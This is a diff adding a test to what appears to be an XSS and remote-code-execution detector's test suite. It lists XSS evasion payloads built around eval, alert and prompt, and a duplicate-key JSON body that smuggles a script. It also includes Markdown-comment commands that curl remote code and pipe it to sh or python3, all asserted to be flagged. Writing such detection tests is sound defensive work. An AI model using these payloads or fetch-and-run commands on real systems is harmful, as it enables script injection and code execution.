@@ -3956,3 +3956,15 @@ t.test("forty-third round's second review: a sink assigned and used again howeve
   t.ok(go('\tfor i := 0; id; i = 1 {').includes('rce'), 'a one-name condition')
   t.ok(go('\tfor i := 0; id < .; i++ {').includes('rce'), 'a comparison')
 })
+
+t.test("forty-third round's third review: eval, alert and confirm assigned read as before; prompt's argument inside a list only; the cut's value from the text; Markdown comments that fetch", async (t) => {
+  for (const v of [`';x=eval;${' '.repeat(420)}[name].map(x)//`, "';x/**/=eval;[name].map(x)//", "';(x)=eval;[name].map(x)//", "';ä=eval;[name].map(ä)//", "';Reflect.apply(ä=eval,self,[name])//", "';[name].map(é=eval,self)//", "';onerror/**/=alert;throw 1//", "';then=prompt;Promise.resolve(self)//", "';\n  a=prompt,\n  [1].map(a)//", "';\n  a=prompt\n  ;[1].map(a)//"]) t.ok(q(v).includes('xss'), JSON.stringify(v))
+  // a key named twice: the parse's last value is not the one the cut ended (Chromium ran the script the exemption hid)
+  const body = `{"a":"s","d":",top.location=top.name]});//","c":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({x:[","a":"${'x'.repeat(17000)}"}`
+  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body) }).includes('xss'), 'a key named twice')
+  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body.replace('"a":"x', '"\\u0061":"x')) }).includes('xss'), 'a key named twice, escaped')
+  // a Markdown comment that fetches, substitutes or hands a program code stays read (bash and dash ran each)
+  const md = (c: string) => json({ body: `# Notes\n\n<!--\n${c}\n-->\n\nSome text here for the page.` })
+  for (const c of ['sh -c "$(curl -s http://127.0.0.1:18778/x)"', 'curl -s http://127.0.0.1:18778/x -o /tmp/s; sh /tmp/s', 'curl -s http://127.0.0.1:18778/p|python3', 'python3 -c "import os;os.system(\'id\')"']) t.ok(md(c).includes('rce'), c)
+  t.same(md('$ tree -L 1 ./pkg/printers/ | grep -v test'), [], 'a listing for the editors')
+})
